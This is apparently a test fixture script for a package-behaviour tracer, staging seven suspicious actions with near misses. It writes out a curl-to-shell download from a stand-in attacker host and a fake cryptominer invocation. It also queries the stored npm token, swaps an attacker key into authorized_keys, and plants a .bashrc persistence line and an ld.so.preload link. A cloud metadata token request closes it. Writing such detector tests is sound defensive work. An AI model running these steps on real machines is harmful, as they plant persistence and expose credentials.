#!/usr/bin/python3
"""Seven behaviours with one hit and one near miss each:
exec-downloader-piped-to-shell, exec-cryptominer, exec-from-temp-refused,
exec-registry-token-query, rename-onto-authorized-keys-or-preload,
rename-onto-persistence-file, resolve-cloud-metadata-host.
Fakes (copies of /bin/true) are called by full path: /mnt/fakebin/xmrig and
/mnt/fakebin/npm (the real npm is on PATH and must not run)."""
import os, socket, subprocess

H = os.path.expanduser("~")
CACHE = H + "/.cache/pkgtrace-demo"
os.makedirs(CACHE, exist_ok=True)


def run(argv):
    try:
        subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass                                   # refused / missing exec: the attempt is the evidence


def put(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)


def attempt(fn, *args):
    try:
        fn(*args)
    except OSError:
        pass


# --- 1. download piped into a shell, inside ONE `sh -c` argv -----------------
# (/bin/sh by full path: no failed PATH-search execve before it)
run(["/bin/sh", "-c", "curl -s http://dl.attacker.example/i.sh | sh"])       # hit
# near misses: a download to a file, and a download piped into a non-interpreter
run(["/bin/sh", "-c", "mkdir -p build && curl -s -o build/lib.tgz http://dl.attacker.example/lib.tgz && ls -l build/lib.tgz"])
run(["/bin/sh", "-c", "curl -s http://dl.attacker.example/lib.json | head -c 64"])

# --- 2. cryptominer (fake xmrig: a copy of /bin/true) ------------------------
run(["/mnt/fakebin/xmrig", "-o", "stratum+tcp://pool.minexmr.com:3333",
     "-u", "4AbPkgtraceDemoWallet", "--donate-level=1", "-a", "rx/0", "--background"])   # hit
run(["/bin/echo", "see", "xmrig.json", "and", "stratum-notes.txt"])           # near miss: names, not a miner

# --- 3. exec from /tmp refused (file there, no x bit: EACCES) ----------------
put("/tmp/.x/kworker", "#!/bin/sh\necho started\n", 0o644)
run(["/tmp/.x/kworker", "--daemon"])                                         # hit: EACCES
# near misses: a missing file in /tmp (ENOENT: nothing was there), and a
# non-executable file in the project (EACCES, but not a temp dir)
run(["/tmp/node_modules/.bin/python3", "-V"])
run(["./bin/prebuilt-tool.sh"])

# --- 4. asking the npm CLI for the stored token, from package code -----------
run(["/mnt/fakebin/npm", "whoami"])                                          # hit
run(["/mnt/fakebin/npm", "config", "get", "//registry.npmjs.org/:_authToken"])  # hit
run(["/mnt/fakebin/npm", "config", "get", "prefix"])                         # near miss

# --- 5. authorized_keys / ld.so.preload replaced by rename or link -----------
put(CACHE + "/ak.tmp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPkgtraceAttackerKey attacker@example\n")
attempt(os.rename, CACHE + "/ak.tmp", H + "/.ssh/authorized_keys")          # hit (succeeds)
attempt(os.symlink, "/tmp/.x/libhook.so", "/etc/ld.so.preload")             # hit (EACCES)
put(CACHE + "/kh.tmp", "example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPkgtraceHostKey\n")
attempt(os.rename, CACHE + "/kh.tmp", H + "/.ssh/known_hosts")              # near miss

# --- 6. shell rc / binary replaced by rename or link --------------------------
put(CACHE + "/bashrc.new", "# ~/.bashrc\nalias ll=\"ls -l\"\n(sh /tmp/.x/kworker &) 2>/dev/null\n")
attempt(os.rename, CACHE + "/bashrc.new", H + "/.bashrc")                   # hit (succeeds)
attempt(os.symlink, "/tmp/.x/kworker", "/usr/bin/kworker")                  # hit (EACCES)
put(H + "/project/dist/a.tmp", "module.exports = 1\n")
attempt(os.rename, H + "/project/dist/a.tmp", H + "/project/dist/a.js")      # near miss: own tree
put(CACHE + "/old-notes", "notes\n")
attempt(os.rename, CACHE + "/old-notes", CACHE + "/notes")                  # near miss: cache

# --- 7. cloud metadata host name ---------------------------------------------
try:
    ai = socket.getaddrinfo("metadata.google.internal", 80, socket.AF_INET, socket.SOCK_STREAM)   # hit
    s = socket.create_connection(ai[0][4], timeout=3)                        # hit (connect by name)
    s.sendall(b"GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\r\n"
              b"Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n")
    s.recv(256)
    s.close()
except OSError:
    pass
try:
    socket.getaddrinfo("metadata.example.com", 80, socket.AF_INET, socket.SOCK_STREAM)            # near miss
except OSError:
    pass
